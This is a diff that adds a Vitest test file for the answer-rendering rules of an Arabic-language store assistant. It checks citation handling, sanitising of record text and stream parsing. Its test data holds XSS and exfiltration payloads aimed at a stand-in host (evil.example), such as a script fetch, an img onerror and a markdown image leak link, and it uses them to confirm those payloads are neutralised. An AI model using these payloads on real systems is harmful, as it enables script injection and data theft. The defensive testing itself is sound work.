@@ -1,0 +1,118 @@
+import { expect, test } from 'vitest'
+import { composeReadings, dayGroupOf, isOwnAddress, plainText, readBlocks, SourceList } from './rules.ts'
+import { readStream, streamLine } from './stream/rules.ts'
+
+test.each([
+  '//evil.example',
+  '/\\evil.example',
+  'https://evil.example',
+  'javascript:alert(1)',
+  'data:text/html,x',
+  '',
+  '/a b',
+  ' /a',
+  '/\\/a',
+])('no source leads to %j', (to) => {
+  expect(isOwnAddress(to)).toBe(false)
+  const list = new SourceList()
+  expect(list.cite({ to, title: 'x' })).toBe('')
+  expect(list.sources).toEqual([])
+})
+
+test('a record is one source, however often it is cited, and there are not too many', () => {
+  const list = new SourceList()
+  expect([list.cite({ to: '/a', title: 'A' }), list.cite({ to: '/b', title: 'B' }), list.cite({ to: '/a', title: 'again' })]).toEqual([
+    ' [1]',
+    ' [2]',
+    ' [1]',
+  ])
+  for (let n = 0; n < 30; n += 1) list.cite({ to: `/c/${n}`, title: 'C' })
+  expect(list.sources).toHaveLength(12)
+})
+
+test('a statement carries the number of its source, and its records stand below it', () => {
+  const result = {
+    statement: 'منتجات: 2.',
+    figures: { low: 2 },
+    links: [
+      { to: '/admin/stock', title: 'المخزون' },
+      { to: '/admin/store/products/a', title: 'عسل **[9]** السدر', note: 'بقي 0' },
+      { to: 'https://evil.example/?leak', title: 'خارج' },
+    ],
+  }
+  const answer = composeReadings([{ tool: 'stock_low', label: 'المخزون', result }])
+  expect(answer.text).toBe('منتجات: 2. [1]\n\n- **عسل 9 السدر**: بقي 0 [2]')
+  expect(answer.sources.map(({ to }) => to)).toEqual(['/admin/stock', '/admin/store/products/a'])
+})
+
+/** What stands in records and wants to be more than text. */
+const hostile = [
+  '![x](https://evil.example/leak?d=1)',
+  '[اضغط هنا](https://evil.example)',
+  '<img src=x onerror=alert(1)>',
+  '<script>fetch("//evil.example")</script>',
+  '# عنوان\n- [1] قائمة',
+  '\u202eمقلوب\u202c',
+  'خفي\u200b\u200c\u2063',
+  '**غليظ** [99]',
+  'data:text/html;base64,PHNjcmlwdD4=',
+]
+
+test.each(hostile)('%j of a record stays plain text in an answer', (text) => {
+  const title = plainText(text)
+  expect(title).not.toMatch(/[*[\]\u200b-\u200f\u202a-\u202e\u2060-\u2069\n]/)
+  const blocks = readBlocks(`- **${title}**: ${title} [1]`)
+  const [list] = blocks
+  expect(blocks).toHaveLength(1)
+  const kinds = list?.kind === 'list' ? list.items.flatMap(({ parts }) => parts.map(({ kind }) => kind)) : []
+  expect(kinds).toEqual(['strong', 'text', 'source'])
+})
+
+test('paragraphs, lists, strong words, telephones and sources are read, and nothing else', () => {
+  expect(readBlocks('قال: **نعم** [1]، هاتفه +212539840000.\n\n- واحد [2]\n- [x](y) <b>')).toEqual([
+    {
+      key: 0,
+      kind: 'paragraph',
+      parts: [
+        { key: 0, kind: 'text', text: 'قال: ' },
+        { key: 1, kind: 'strong', text: 'نعم' },
+        { key: 3, kind: 'source', number: 1 },
+        { key: 4, kind: 'text', text: '، هاتفه ' },
+        { key: 5, kind: 'phone', text: '+212539840000' },
+        { key: 6, kind: 'text', text: '.' },
+      ],
+    },
+    {
+      key: 2,
+      kind: 'list',
+      items: [
+        {
+          key: 2,
+          parts: [
+            { key: 0, kind: 'text', text: 'واحد' },
+            { key: 1, kind: 'source', number: 2 },
+          ],
+        },
+        { key: 3, parts: [{ key: 0, kind: 'text', text: '[x](y) <b>' }] },
+      ],
+    },
+  ])
+})
+
+test.each([
+  ['2026-11-23', 'today'],
+  ['2026-11-17', 'week'],
+  ['2026-11-16', 'earlier'],
+])('a conversation of %s stands under %s', (day, group) => expect(dayGroupOf(day, '2026-11-23')).toBe(group))
+
+test('a stream is read in whatever pieces it comes, and garbage in it is passed over', () => {
+  const sent = `${streamLine({ type: 'text-delta', id: 'a', delta: 'سلام' })}data: {broken\n\n: comment\n\n${streamLine({ type: 'finish' })}data: [DONE]\n\n`
+  const parts: unknown[] = []
+  let rest = ''
+  for (const letter of sent) {
+    const read = readStream(rest + letter)
+    parts.push(...read.parts)
+    rest = read.rest
+  }
+  expect([parts, rest]).toEqual([[{ type: 'text-delta', id: 'a', delta: 'سلام' }, { type: 'finish' }], ''])
+})
